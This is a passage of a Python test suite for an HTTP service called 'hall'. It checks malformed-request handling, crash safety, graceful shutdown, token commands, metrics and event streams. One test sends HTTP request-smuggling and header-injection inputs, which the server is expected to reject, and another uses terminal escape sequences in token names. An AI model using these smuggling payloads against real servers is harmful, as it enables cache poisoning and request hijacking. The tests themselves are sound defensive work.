            status, _, body = self.call("POST", "/api/receipts/verify", forged, token=self.reader)
            self.assertEqual((status, body["valid"]), (200, False))
            self.assertEqual(self.call("GET", "//health")[0], 404)
            self.assertEqual(self.call("GET", "//x/api/tokens", token=self.admin)[0], 404)
            status, _, body = self.call("POST", "/enroll", raw=b'{"worker_id": "w", "n": 1'
                                        + b"0" * 400 + b"}")
            self.assertEqual(status, 400)
            self.assertIn("out of range", body["error"])
            answer = raw_exchange(self.server, b"POST /enroll HTTP/1.1\r\nContent-Length: "
                                  b"99999999\r\nExpect: 100-continue\r\n\r\n")
            self.assertEqual(json.loads(answer.partition(b"\r\n\r\n")[2])["code"],
                             "PAYLOAD_TOO_LARGE")
            self.assertEqual(statuses(raw_exchange(
                self.server, b"POST /enroll HTTP/1.1\r\nContent-Length: \xb2\r\n"
                b"Expect: 100-continue\r\n\r\n")), [100, 400])
            head = raw_exchange(self.server, b"HEAD /events HTTP/1.1\r\n\r\n", timeout=10)
            self.assertEqual(statuses(head), [200])
            self.assertTrue(head.endswith(b"\r\n\r\n"), head[-80:])   # a head, then closed
            self.assertTrue(poll(lambda: self.hall.events.subscribers == 0))
        self.assertNotIn("Traceback", stderr.getvalue())
        self.assertEqual(self.db_rows("SELECT count(*) FROM enrollments"), [(1,)])

    def test_hostile_framing_on_the_raw_socket(self):
        hidden = b"\r\nGET /smuggled HTTP/1.1\r\nHost: y\r\n\r\n"
        cases = [
            (b"TRACE /health HTTP/1.1\r\n\r\n", [405]),
            (b"get /health HTTP/1.1\r\n\r\n", [405]),
            (b"GET /health HTTP/9.9\r\n\r\n", [400]),
            (b"GET http://[/health HTTP/1.1\r\nHost: x\r\n\r\n", [400]),
            (b"NONSENSE\r\n\r\n", [400]),
            (b"GET /health HTTP/1.1\r\nX-A: a\rb\r\n\r\n", [400]),
            (b"GET /health HTTP/1.1\r\nX-A: a\0b\r\n\r\n", [400]),
            (b"GET /health HTTP/1.1\r\nX\0Y: a\r\n\r\n", [400]),
            (b"GET /health HTTP/1.1\r\nX Y: a\r\n\r\n", [400]),
            (b"POST /decisions/ingest HTTP/1.1\r\nContent-Type: application/json\r\n"
             b"X\rContent-Length: 36\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: y\r\n\r\n", [400]),
            (b"POST /decisions/ingest HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"
             + b"0" * 1024 + b"%x\r\n" % len(hidden) + hidden + b"\r\n0\r\n\r\n", [400]),
            (b"POST /decisions/ingest HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n-1\r\n"
             + b"x" * 100000, [400]),
            (b"POST /decisions/ingest HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n0x2\r\n{}"
             b"\r\n0\r\n\r\n", [400]),
            (b"POST /decisions/ingest HTTP/1.1\r\nTransfer-Encoding: identity\r\n\r\n"
             b"{}GET /health HTTP/1.1\r\n\r\n", [400]),
            (b"POST /decisions/ingest HTTP/1.1\r\nContent-Length: 1_0\r\n\r\n{}", [400]),
            (b"POST /decisions/ingest HTTP/1.1\r\nContent-Length: 2\r\nContent-Length: 3\r\n"
             b"\r\n{}", [400]),
            (b"POST /decisions/ingest HTTP/1.1\r\nContent-Length: 2\r\n\r\n{}"
             b"GET /health HTTP/1.1\r\nConnection: close\r\n\r\n", [201, 200]),
            (b"POST /enroll HTTP/1.1\r\nContent-Length: 99999999\r\nExpect: 100-continue\r\n\r\n",
             [413]),
            (b"POST /enroll HTTP/1.1\r\nContent-Length: 10000000000000000\r\n"
             b"Expect: 100-continue\r\n\r\n", [413]),
        ]
        stderr = io.StringIO()
        with contextlib.redirect_stderr(stderr):
            for data, expected in cases:
                self.assertEqual(statuses(raw_exchange(self.server, data)), expected, data[:60])
        self.assertNotIn("Traceback", stderr.getvalue())
        self.assertEqual(self.db_rows("SELECT count(*) FROM decisions"), [(1,)])

    def test_client_vanishing_mid_body_leaves_no_trace(self):
        stderr = io.StringIO()
        with contextlib.redirect_stderr(stderr):
            host, port = self.server.server_address[:2]
            sock = socket.create_connection((host, port), timeout=5)
            sock.sendall(b"POST /enroll HTTP/1.1\r\nContent-Length: 100\r\n\r\n{\"a\":")
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            sock.close()
            self.assertEqual(poll(lambda: self.server._connections == 0), True)
        self.assertNotIn("Traceback", stderr.getvalue())


class FaultTest(ServerCase):

    settings = {"busy_timeout": 100}

    def test_locked_database_turns_writes_into_503_and_recovers(self):
        blocker = sqlite3.connect(self.db, isolation_level=None)
        blocker.execute("BEGIN EXCLUSIVE")
        try:
            status, headers, body = self.call("POST", "/decisions/ingest", {"decision_id": "d1"})
            self.assertEqual((status, body["code"]), (503, "DB_UNAVAILABLE"))
            self.assertEqual(headers["retry-after"], "1")
            self.assertEqual(self.call("GET", "/status")[0], 200)       # reads keep working
            self.assertEqual(self.call("GET", "/health")[0], 200)
        finally:
            blocker.execute("ROLLBACK")
            blocker.close()
        self.assertEqual(self.call("POST", "/decisions/ingest", {"decision_id": "d2"})[0], 201)
        codes = [a["code"] for a in self.call("GET", "/alerts")[2]["alerts"]]
        self.assertIn("STORAGE_RECOVERED", codes)
        self.assertEqual(self.db_rows("SELECT decision_id FROM decisions"), [("d2",)])

    def test_only_a_write_that_commits_shows_storage_recovered(self):
        self.assertEqual(self.route(dry_run=True)[0], 200)     # (its token's last use is
        self.assertTrue(poll(lambda: self.db_rows(              # written now, not later)
            "SELECT last_used_at FROM tokens WHERE name = 'test router'") != [(None,)]))
        blocker = sqlite3.connect(self.db, isolation_level=None)
        blocker.execute("BEGIN EXCLUSIVE")
        try:                                    # (its alert cannot be written either)
            self.hall.storage_fault(hall.Unavailable("the database cannot take writes now"))
        finally:
            blocker.execute("ROLLBACK")
            blocker.close()

        def recovered():
            return [a for a in self.call("GET", "/alerts")[2]["alerts"]
                    if a["code"] == "STORAGE_RECOVERED"]
        # A POST that writes nothing shows nothing.
        status, _, decision = self.route(dry_run=True)
        self.assertEqual((status, decision["dry_run"]), (200, True))
        self.assertEqual(recovered(), [])
        self.assertIsNotNone(self.hall.storage_fault_since)
        # One whose write commits does.
        self.assertEqual(self.call("POST", "/decisions/ingest", {"decision_id": "d3"})[0], 201)
        self.assertEqual(len(recovered()), 1)
        self.assertIsNone(self.hall.storage_fault_since)


class CrashSafetyTest(unittest.TestCase):
    """Acknowledged writes survive kill -9 in the middle of a write load."""

    def test_acknowledged_writes_survive_sigkill(self):
        with tempfile.TemporaryDirectory() as tmp:
            db = os.path.join(tmp, "hall.db")
            environ = hall_environ(HALL_API_PORT="0", HALL_TOKEN="crash-test", HALL_ACCESS_LOG="off")
            process = subprocess.Popen([sys.executable, "-u", HALL_PY, "--db", db], cwd=tmp,
                                       env=environ, stdout=subprocess.PIPE,
                                       stderr=subprocess.DEVNULL, text=True)
            acknowledged, lock, stop = [], threading.Lock(), threading.Event()
            try:
                url = process.stdout.readline().split(" on ")[1].strip()

                def writer(n):
                    client = Client(url)
                    for i in range(100000):
                        if stop.is_set():
                            break
                        ident = "w%d-%d" % (n, i)
                        try:
                            if i % 3 == 0:
                                status, _, _ = client.request("POST", "/enroll", worker_record(
                                    ident, capabilities=["cap.%d" % i]))
                                ok = status in (200, 201)
                            elif i % 3 == 1:
                                status, _, body = client.request("POST", "/api/route", route_body(
                                    correlation_id=ident), "crash-test")
                                ident = body["decision_id"] if status == 200 else None
                                ok = status == 200
                            else:
                                status, _, _ = client.request("POST", "/decisions/ingest",
                                                              {"decision_id": ident})
                                ok = status == 201
                        except (OSError, http.client.HTTPException, ValueError):
                            break
                        if ok:
                            with lock:
                                acknowledged.append((i % 3, ident))
                    client.close()
                threads = [threading.Thread(target=writer, args=(n,)) for n in range(4)]
                for thread in threads:
                    thread.start()
                poll(lambda: len(acknowledged) >= 150, timeout=30)
                process.kill()
                process.wait(10)
                stop.set()
                for thread in threads:
                    thread.join(30)
            finally:
                reap(process)
            self.assertGreaterEqual(len(acknowledged), 150)
            conn = sqlite3.connect(db)
            try:
                self.assertEqual(conn.execute("PRAGMA integrity_check").fetchall(), [("ok",)])
                workers = {r[0] for r in conn.execute("SELECT worker_id FROM enrollments")}
                decisions = {r[0] for r in conn.execute("SELECT decision_id FROM decisions")}
            finally:
                conn.close()
            for kind, ident in acknowledged:
                self.assertIn(ident, workers if kind == 0 else decisions)


class GracefulStopTest(unittest.TestCase):

    @contextlib.contextmanager
    def served(self, **settings):
        """(server, a connection to it) of a hall on a temporary database,
        stopped and closed afterwards."""
        with tempfile.TemporaryDirectory() as tmp:
            h = hall.Hall(hall.Config(db_path=os.path.join(tmp, "hall.db"), access_log=False,
                                      **settings))
            server = h.serve(port=0)
            try:
                with socket.create_connection(("127.0.0.1", server.server_address[1]),
                                              timeout=10) as sock:
                    yield server, sock
            finally:
                server.stop()
                h.close()

    def stop_in_background(self, server):
        """Stop the server from another thread; a queue that gets drain()'s count."""
        drained = queue.Queue()

        def stop():
            server.shutdown()
            server.server_close()
            drained.put(server.drain())
        threading.Thread(target=stop, daemon=True).start()
        return drained

    def answer_on(self, sock):
        """(status, Connection header) of the next answer read from ``sock``."""
        answer = http.client.HTTPResponse(sock)
        answer.begin()
        answer.read()
        return answer.status, answer.getheader("Connection")

    def test_a_connection_served_by_a_thread_is_let_go_once_the_hall_stops(self):
        # (a keep-alive client kept busy would otherwise hold the drain to its end)
        with tempfile.TemporaryDirectory() as tmp:
            h = hall.Hall(hall.Config(db_path=os.path.join(tmp, "hall.db"), access_log=False))
            server = h.serve(port=0)
            try:
                conn = http.client.HTTPConnection("127.0.0.1", server.server_address[1],
                                                  timeout=10)
                for stopping in (False, True):
                    h.stopping = stopping
                    conn.request("GET", "/openapi.json")         # a path a thread answers
                    response = conn.getresponse()
                    response.read()
                    self.assertEqual(response.status, 200)
                    self.assertEqual(response.getheader("Connection"),
                                     "close" if stopping else None)
                self.assertEqual(conn.sock, None)           # closed, as the answer said
            finally:
                h.stopping = False
                server.stop()
                h.close()

    def test_a_stop_keeps_to_its_deadline_while_another_process_holds_the_write_lock(self):
        with tempfile.TemporaryDirectory() as tmp:
            db = os.path.join(tmp, "hall.db")
            h = hall.Hall(hall.Config(db_path=db, access_log=False, drain_seconds=1,
                                      busy_timeout=60000))
            server = h.serve(port=0)
            holder = sqlite3.connect(db, isolation_level=None)
            try:
                holder.execute("BEGIN IMMEDIATE")   # another program's long write
                body = b'{"decision_id": "held"}'
                sock = socket.create_connection(("127.0.0.1", server.server_address[1]),
                                                timeout=60)
                self.addCleanup(sock.close)
                sock.sendall(b"POST /decisions/ingest HTTP/1.1\r\nContent-Type: application/"
                             b"json\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))
                self.assertTrue(poll(lambda: server._in_flight == 1))  # waiting for the lock
                started = time.monotonic()
                server.shutdown()
                server.server_close()
                cut_off = server.drain()
                h.close(server.stop_by)
                stopped_after = time.monotonic() - started
            finally:
                holder.close()
            # a 1 s drain, not the 60 s busy timeout; the request was cut off, unanswered
            self.assertLess(stopped_after, 30)
            self.assertEqual(cut_off, 1)
            self.assertEqual(sock.recv(65536), b"")
            with contextlib.closing(sqlite3.connect(db)) as conn:
                self.assertEqual(conn.execute("SELECT count(*) FROM decisions").fetchone(), (0,))

    def test_a_request_arriving_as_the_stop_lets_its_connection_go_is_not_served(self):
        # (served, its write would commit, and its answer meet a shut socket)
        arrived, let_go = threading.Event(), threading.Event()
        receive = hall.DeadlineReader._receive

        def receive_then_stall(reader, buffer):
            count = receive(reader, buffer)
            if count and reader.idle:           # a next request's first bytes
                arrived.set()
                let_go.wait(10)                 # ... held until the stop let the connection go
            return count
        with tempfile.TemporaryDirectory() as tmp:
            db = os.path.join(tmp, "hall.db")
            h = hall.Hall(hall.Config(db_path=db, access_log=False, idle_timeout=600))
            server = h.serve(port=0)
            try:
                with mock.patch.object(hall.DeadlineReader, "_receive", receive_then_stall):
                    conn = http.client.HTTPConnection("127.0.0.1", server.server_address[1],
                                                      timeout=10)
                    self.addCleanup(conn.close)
                    conn.request("GET", "/openapi.json")    # now a thread serves it
                    conn.getresponse().read()
                    conn.request("POST", "/decisions/ingest", '{"decision_id": "late"}',
                                 {"Content-Type": "application/json"})
                    self.assertTrue(arrived.wait(10))
                    server.shutdown()
                    server.server_close()
                    self.assertEqual(server.drain(), 0)
                    let_go.set()
                    self.assertTrue(poll(lambda: not server.thread_readers))
                    with self.assertRaises((http.client.HTTPException, OSError)):
                        conn.getresponse()      # closed, unanswered
            finally:
                let_go.set()
                server.stop()
                h.close()
            with contextlib.closing(sqlite3.connect(db)) as check:
                self.assertEqual(check.execute("SELECT count(*) FROM decisions").fetchone(),
                                 (0,))

    def test_a_stop_waits_for_a_thread_request_from_its_first_byte_to_its_answer(self):
        with self.served(drain_seconds=10) as (server, sock):
            sock.sendall(b"GET /openapi.json HTTP/1.1\r\nHost: x\r\n\r\n")   # (a thread's)
            self.assertEqual(self.answer_on(sock), (200, None))
            # (the thread waits for the next request only once its answer is out)
            self.assertTrue(poll(lambda: all(reader.idle for reader in server.thread_readers)))
            sock.sendall(b"GET /openapi.json HTTP/1.1\r\n")        # half a head, then stop
            self.assertTrue(poll(lambda: any(not reader.idle
                                             for reader in server.thread_readers)))
            drained = self.stop_in_background(server)
            self.assertTrue(poll(lambda: server.stop_by is not None))
            self.assertFalse(poll(lambda: not drained.empty(), timeout=0.5))
            sock.sendall(b"Host: x\r\n\r\n")
            self.assertEqual(self.answer_on(sock), (200, "close"))
            self.assertEqual(drained.get(timeout=10), 0)

    def test_a_stop_waits_for_a_request_handed_to_a_thread_not_yet_running(self):
        go_on = threading.Event()
        serve = hall.HallHTTPServer.process_request_thread

        def late_thread(server, request, client_address):
            go_on.wait(10)
            serve(server, request, client_address)
        with mock.patch.object(hall.HallHTTPServer, "process_request_thread", late_thread), \
                self.served(drain_seconds=10) as (server, sock):
            try:
                sock.sendall(b"GET /openapi.json HTTP/1.1\r\nHost: x\r\n\r\n")
                self.assertTrue(poll(lambda: server.handed_over))
                drained = self.stop_in_background(server)
                self.assertFalse(poll(lambda: not drained.empty(), timeout=0.5))
            finally:
                go_on.set()
            self.assertEqual(self.answer_on(sock), (200, "close"))
            self.assertEqual(drained.get(timeout=10), 0)

    def test_a_handed_over_request_is_claimed_before_its_bytes_are_taken(self):
        first, second = socket.socketpair()
        self.addCleanup(first.close)
        self.addCleanup(second.close)
        reader = hall.DeadlineReader(first, 5, 5, preread=b"GET /health HTTP/1.1\r\n\r\n")
        self.assertFalse(reader.let_go_if_idle())   # bytes the loop read: served
        begin = hall.DeadlineReader.begin_request
        seen = []

        def stop_arrives_now(self):             # a stop looks in right here
            seen.append(self.let_go_if_idle())
            return begin(self)
        with mock.patch.object(hall.DeadlineReader, "begin_request", stop_arrives_now):
            line = io.BufferedReader(reader, 65536).readline()
        self.assertEqual((line, seen), (b"GET /health HTTP/1.1\r\n", [False]))

    def test_sigterm_stops_a_hall_whose_stdout_was_closed(self):
        with tempfile.TemporaryDirectory() as tmp:      # (`python hall.py | head -1`)
            process = subprocess.Popen([sys.executable, "-u", HALL_PY, "--db",
                                        os.path.join(tmp, "hall.db")], cwd=tmp,
                                       env=hall_environ(HALL_API_PORT="0", HALL_ACCESS_LOG="off"),
                                       stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
            try:
                self.assertIn("starting on", process.stdout.readline())
                process.stdout.close()
                process.terminate()
                self.assertEqual(process.wait(timeout=15), 0)
            finally:
                reap(process)

    def test_sigterm_finishes_the_request_in_flight(self):
        with tempfile.TemporaryDirectory() as tmp:
            environ = hall_environ(HALL_API_PORT="0", HALL_ACCESS_LOG="off")
            process = subprocess.Popen([sys.executable, "-u", HALL_PY, "--db",
                                        os.path.join(tmp, "hall.db")], cwd=tmp, env=environ,
                                       stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
            try:
                url = process.stdout.readline().split(" on ")[1].strip()
                port = int(url.rsplit(":", 1)[1])
                said = queue.Queue()
                threading.Thread(target=lambda: [said.put(line) for line in process.stdout] +
                                 [said.put(None)], daemon=True).start()
                with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
                    sock.sendall(b"POST /decisions/ingest HTTP/1.1\r\nContent-Type: "
                                 b"application/json\r\nContent-Length: 23\r\n\r\n{\"decision_id\"")
                    # Answered on a second connection, whose bytes came later:
                    # the hall has read the first request's head by then.
                    with urllib.request.urlopen(url + "/health", timeout=10) as response:
                        self.assertEqual(response.status, 200)
                    process.terminate()
                    self.assertTrue(poll(lambda: refuses_connections(port)))
                    sock.sendall(b": \"late\"}")
                    answer = sock.recv(65536)
                self.assertTrue(answer.startswith(b"HTTP/1.1 201"), answer[:60])
                self.assertEqual(process.wait(timeout=15), 0)
                self.assertEqual(list(iter(said.get, None))[-2:], [
                    "[hall-api] SIGTERM: stopping; requests in flight have up to 10s to finish\n",
                    "[hall-api] stopped\n"])
                self.assertFalse(os.path.exists(os.path.join(tmp, "hall.db-wal")) and
                                 os.path.getsize(os.path.join(tmp, "hall.db-wal")) > 0)
            finally:
                reap(process)
            conn = sqlite3.connect(os.path.join(tmp, "hall.db"))
            try:
                self.assertEqual(conn.execute("SELECT decision_id FROM decisions").fetchall(),
                                 [("late",)])
            finally:
                conn.close()


@unittest.skipUnless(sys.platform.startswith("linux"), "reads the hall's CPU time in /proc")
class DescriptorLimitTest(unittest.TestCase):

    def cpu_seconds(self, pid):
        with open("/proc/%d/stat" % pid) as handle:
            fields = handle.read().rpartition(")")[2].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    def test_out_of_descriptors_the_hall_waits_to_accept_and_then_serves_again(self):
        import resource
        with tempfile.TemporaryDirectory() as tmp:
            environ = hall_environ(HALL_API_PORT="0", HALL_ACCESS_LOG="off")
            process = subprocess.Popen(
                [sys.executable, "-u", HALL_PY, "--db", os.path.join(tmp, "hall.db")], cwd=tmp,
                env=environ, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (64, 64)))
            clients = []
            try:
                port = int(process.stdout.readline().split(" on ")[1].strip().rsplit(":", 1)[1])
                said = queue.Queue()
                threading.Thread(target=lambda: said.put(process.stderr.readline()),
                                 daemon=True).start()
                for _ in range(80):             # more than the hall has descriptors for
                    clients.append(socket.create_connection(("127.0.0.1", port), timeout=10))
                complaint = said.get(timeout=10)
                self.assertIn("cannot accept connections", complaint)
                self.assertIn("ulimit -n", complaint)
                # The refused connections stay queued: retrying only now and
                # then, the hall is idle meanwhile rather than spinning.
                before = self.cpu_seconds(process.pid)
                time.sleep(1.0)
                self.assertLess(self.cpu_seconds(process.pid) - before, 0.5)
                for client in clients:
                    client.close()
                clients = []
                with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
                    sock.sendall(b"GET /health HTTP/1.1\r\nHost: x\r\n\r\n")
                    self.assertTrue(sock.recv(65536).startswith(b"HTTP/1.1 200"))
            finally:
                for client in clients:
                    client.close()
                reap(process)


class TokenCommandTest(unittest.TestCase):

    def test_a_start_that_fails_after_binding_lets_go_of_its_sockets(self):
        if not os.path.isdir("/proc/self/fd"):
            self.skipTest("needs /proc/self/fd")
        with tempfile.TemporaryDirectory() as tmp:
            junk = os.path.join(tmp, "junk.pem")
            with open(junk, "w") as handle:
                handle.write("not a certificate")
            before = len(os.listdir("/proc/self/fd"))
            h = hall.Hall(hall.Config(db_path=os.path.join(tmp, "a.db"), access_log=False,
                                      tls_cert=junk, tls_key=junk))
            with self.assertRaises(hall.ConfigError):
                h.serve(port=0)
            h.close()
            with self.assertRaises(hall.ConfigError):     # the token file cannot be written
                hall.run_server(hall.Config(db_path=os.path.join(tmp, "b.db"), port=0,
                                            access_log=False, token_file=os.path.join(
                                                tmp, "no such directory", "hall.token")))
            self.assertEqual(len(os.listdir("/proc/self/fd")), before)

    def test_flags_before_the_command_count_and_a_listing_makes_no_database(self):
        with tempfile.TemporaryDirectory() as tmp:
            db = os.path.join(tmp, "given.db")
            created = run_hall(["--db", db, "token", "create", "--name", "ci", "--scope",
                                "read"], cwd=tmp)
            self.assertEqual(created.returncode, 0, created.stderr)
            self.assertTrue(os.path.exists(db))
            self.assertFalse(os.path.exists(os.path.join(tmp, "hall.db")))
            typo = os.path.join(tmp, "typo.db")
            for command in (["token", "list"], ["token", "revoke", "tok_x"]):
                refused = run_hall(command + ["--db", typo], cwd=tmp)
                self.assertEqual(refused.returncode, 2, refused.stderr)
                self.assertIn("no database at", refused.stderr)
            self.assertEqual(sorted(os.listdir(tmp)), ["given.db", "given.db.keys"])

    def test_a_refused_command_leaves_no_database_behind(self):
        with tempfile.TemporaryDirectory() as tmp:
            record = os.path.join(tmp, "record.json")
            with open(record, "w") as handle:
                json.dump({"worker_id": "org.x"}, handle)       # no species: refused
            db = os.path.join(tmp, "hall.db")
            for args in (["enroll", record], ["token", "create", "--name", " ", "--scope",
                                              "read"]):
                refused = run_hall(args + ["--db", db], cwd=tmp)
                self.assertEqual(refused.returncode, 2, refused.stderr)
                self.assertEqual(os.listdir(tmp), ["record.json"])
            made = run_hall(["token", "create", "--name", "ci", "--scope", "read", "--db", db])
            self.assertEqual(made.returncode, 0, made.stderr)
            refused = run_hall(["enroll", record, "--db", db])  # one that was there stays
            self.assertEqual(refused.returncode, 2, refused.stderr)
            self.assertEqual(sorted(os.listdir(tmp)), ["hall.db", "hall.db.keys", "record.json"])
            with contextlib.closing(sqlite3.connect(db)) as conn:
                self.assertEqual(conn.execute("SELECT name FROM tokens").fetchall(), [("ci",)])

    def test_names_are_printed_without_their_control_characters(self):
        with tempfile.TemporaryDirectory() as tmp:
            db = os.path.join(tmp, "hall.db")
            created = run_hall(["token", "create", "--name", "ci\x1b[2J\x07", "--scope", "read",
                                "--tenant", "org.\x1ba", "--db", db])
            self.assertEqual(created.returncode, 0, created.stderr)
            self.assertIn("(ci[2J; scopes read; tenant org.a)", created.stderr)
            listing = run_hall(["token", "list", "--db", db])
            self.assertEqual(listing.returncode, 0, listing.stderr)
            self.assertRegex(listing.stdout, r"\n\S+ +ci\[2J +read +org\.a ")
            self.assertNotIn("\x1b", listing.stdout + created.stderr)

    def test_create_list_revoke_from_the_command_line(self):
        with tempfile.TemporaryDirectory() as tmp:
            db = os.path.join(tmp, "hall.db")
            created = run_hall(["token", "create", "--name", "ci", "--scope", "route",
                                "--scope", "read", "--tenant", "org.a", "--db", db])
            self.assertEqual(created.returncode, 0, created.stderr)
            secret = created.stdout.strip()
            self.assertTrue(secret.startswith("hall_"))
            token_id = created.stderr.split()[1]
            listing = run_hall(["token", "list", "--db", db])
            self.assertEqual(listing.returncode, 0)
            self.assertIn(token_id, listing.stdout)
            self.assertIn("read route", listing.stdout)
            self.assertIn("org.a", listing.stdout)
            self.assertNotIn(secret, listing.stdout)
            h = hall.Hall(hall.Config(db_path=db, access_log=False))
            server = h.serve(port=0)
            client = Client(server.url)
            try:
                self.assertEqual(client.request("POST", "/api/route", route_body(
                    tenant_id="org.a"), secret)[0], 200)
                revoked = run_hall(["token", "revoke", token_id, "--db", db])
                self.assertEqual((revoked.returncode, revoked.stdout.strip()),
                                 (0, "revoked " + token_id))
                # revoked by another process: the running hall sees it within a second
                self.assertTrue(poll(lambda: client.request("POST", "/api/route", route_body(
                    tenant_id="org.a"), secret)[0] == 401, timeout=5))
            finally:
                client.close()
                server.stop()
                h.close()
            again = run_hall(["token", "revoke", token_id, "--db", db])
            self.assertEqual(again.returncode, 2)
            self.assertIn("no active token", again.stderr)
            bad = run_hall(["token", "create", "--name", "x", "--scope", "root", "--db", db])
            self.assertEqual(bad.returncode, 2)
            conn = sqlite3.connect(db)
            try:
                actions = [r[0] for r in conn.execute("SELECT action FROM audit ORDER BY at")]
            finally:
                conn.close()
            self.assertEqual(actions, ["token.create", "token.revoke"])


# -- operations -----------------------------------------------------------------------

def parse_prometheus(text):
    """A strict reader of the text exposition format: {(name, labels): value}, types."""
    samples, types, helps = {}, {}, set()
    line_re = re.compile(r'^([a-zA-Z_:][a-zA-Z0-9_:]*)(\{(.*)\})? (\S+)$')
    label_re = re.compile(r'([a-zA-Z_][a-zA-Z0-9_]*)="((?:[^"\\]|\\.)*)"(,|$)')
    for line in text.splitlines():
        if line.startswith("# HELP "):
            helps.add(line.split()[2])
            continue
        if line.startswith("# TYPE "):
            _, _, name, kind = line.split()
            types[name] = kind
            continue
        match = line_re.match(line)
        assert match, "not a sample line: %r" % line
        labels, rest = [], match.group(3) or ""
        while rest:
            label = label_re.match(rest)
            assert label, "bad labels in %r" % line
            labels.append((label.group(1), label.group(2).replace('\\"', '"')
                           .replace("\\n", "\n").replace("\\\\", "\\")))
            rest = rest[label.end():]
        samples[(match.group(1), tuple(sorted(labels)))] = float(match.group(4))
    assert set(types) == helps, "every family needs HELP and TYPE"
    return samples, types


class ProbeAndMetricsTest(ServerCase):

    def test_ready_and_aliases(self):
        for path in ("/ready", "/readyz"):
            status, _, body = self.call("GET", path)
            self.assertEqual((status, body["status"], body["failing"]), (200, "ready", []))
            self.assertIs(body["checks"]["database"]["ok"], True)
            self.assertIs(body["checks"]["writer"]["ok"], True)
            self.assertGreaterEqual(body["checks"]["writer"]["latency_ms"], 0)
        self.assertEqual(self.call("GET", "/healthz")[2]["status"], "ok")

    def test_ready_names_the_failing_part(self):
        self.restart(busy_timeout=100)
        blocker = sqlite3.connect(self.db, isolation_level=None)
        blocker.execute("BEGIN EXCLUSIVE")
        try:
            status, _, body = self.call("GET", "/ready")
        finally:
            blocker.execute("ROLLBACK")
            blocker.close()
        self.assertEqual((status, body["status"], body["failing"]), (503, "not ready", ["writer"]))
        self.assertIs(body["checks"]["database"]["ok"], True)
        self.assertEqual(self.call("GET", "/ready")[0], 200)

    def test_metrics_count_what_was_sent(self):
        self.enroll(worker_record())
        self.enroll(worker_record())
        for _ in range(3):
            self.route()
        for _ in range(2):
            self.route(capability_id="cap.none")
        self.call("POST", "/decisions/ingest", {})
        self.call("GET", "/nope")
        status, headers, text = self.call("GET", "/metrics")
        self.assertEqual(status, 200)
        self.assertEqual(headers["content-type"], "text/plain; version=0.0.4; charset=utf-8")
        samples, types = parse_prometheus(text.decode())
        self.assertEqual(samples[("hall_route_decisions_total",
                                  (("deny_code", ""), ("outcome", "allowed")))], 3)
        self.assertEqual(samples[("hall_route_decisions_total",
                                  (("deny_code", "DENY_NO_MATCHING_RULE"),
                                   ("outcome", "denied")))], 2)
        self.assertEqual(samples[("hall_enrollments_total", (("result", "created"),))], 1)
        self.assertEqual(samples[("hall_enrollments_total", (("result", "updated"),))], 1)
        self.assertEqual(samples[("hall_ingested_decisions_total", ())], 1)
        self.assertEqual(samples[("hall_http_requests_total", (
            ("method", "POST"), ("route", "/api/route"), ("status", "200")))], 5)
        self.assertEqual(samples[("hall_http_requests_total", (
            ("method", "GET"), ("route", "unmatched"), ("status", "404")))], 1)
        route_labels = (("method", "POST"), ("route", "/api/route"))
        buckets = sorted((float(dict(labels)["le"]), value) for (name, labels), value
                         in samples.items() if name == "hall_http_request_duration_seconds_bucket"
                         and tuple(l for l in labels if l[0] != "le") == route_labels)
        self.assertEqual(buckets[-1], (float("inf"), 5))
        self.assertEqual([v for _, v in buckets], sorted(v for _, v in buckets))
        self.assertEqual(samples[("hall_http_request_duration_seconds_count", route_labels)], 5)
        self.assertEqual(types["hall_http_request_duration_seconds"], "histogram")
        self.assertEqual(samples[("hall_workers_enrolled", ())], 1)
        self.assertEqual(samples[("hall_safe_mode", ())], 0)
        self.assertEqual(samples[("hall_approvals_pending", ())], 0)
        self.assertGreater(samples[("hall_database_bytes", ())], 0)
        self.assertEqual(samples[("hall_build_info", (("hall_hash", self.hall.hall_hash),
                                                      ("version", "0.3.0")))], 1)

    def test_label_escaping(self):
        text = hall.prometheus_text([("hall_alerts", (("level", 'a"b\\c\nd'),), 1)])
        samples, _ = parse_prometheus(text)
        self.assertEqual(samples[("hall_alerts", (("level", 'a"b\\c\nd'),))], 1)


class EventStreamTest(ServerCase):

    def open_stream(self, query="", last_id=None):
        host, port = self.server.server_address[:2]
        sock = socket.create_connection((host, port), timeout=5)
        head = "GET /events%s HTTP/1.1\r\nHost: localhost\r\n" % query
        if last_id is not None:
            head += "Last-Event-ID: %s\r\n" % last_id
        sock.sendall((head + "\r\n").encode())
        return sock, sock.makefile("rb")

    def read_events(self, reader, count):
        """The next ``count`` events: [(id, type, data)], skipping comments."""
        events, fields = [], {}
        while len(events) < count:
            line = reader.readline()
            self.assertTrue(line, "the stream ended early")
            line = line.decode().rstrip("\n")
            if line.startswith("HTTP/1.1 "):
                self.assertTrue(line.startswith("HTTP/1.1 200"), line)
            elif not line:
                if "data" in fields and "event" in fields:
                    events.append((int(fields.get("id", 0)), fields["event"],
                                   json.loads(fields["data"])))
                fields = {}
            elif ":" in line and not line.startswith(":"):
                name, _, value = line.partition(":")
                fields[name] = value.strip()
        return events

    def test_live_decisions_and_resume_with_last_event_id(self):
        sock, reader = self.open_stream("?types=decision")
        try:
            self.call("POST", "/decisions/ingest", {"decision_id": "first"})
            [(first_id, kind, data)] = self.read_events(reader, 1)
            self.assertEqual((kind, data["decision_id"]), ("decision", "first"))
        finally:
            reader.close()
            sock.close()
        for i in range(5):                      # while disconnected
            self.call("POST", "/decisions/ingest", {"decision_id": "missed-%d" % i})
        self.hall.raise_alert("info", "NOT_A_DECISION", "filtered out")
        sock, reader = self.open_stream("?types=decision", last_id=first_id)
        try:
            self.call("POST", "/decisions/ingest", {"decision_id": "live"})
            events = self.read_events(reader, 6)
        finally:
            reader.close()
            sock.close()
        self.assertEqual([e[2]["decision_id"] for e in events],
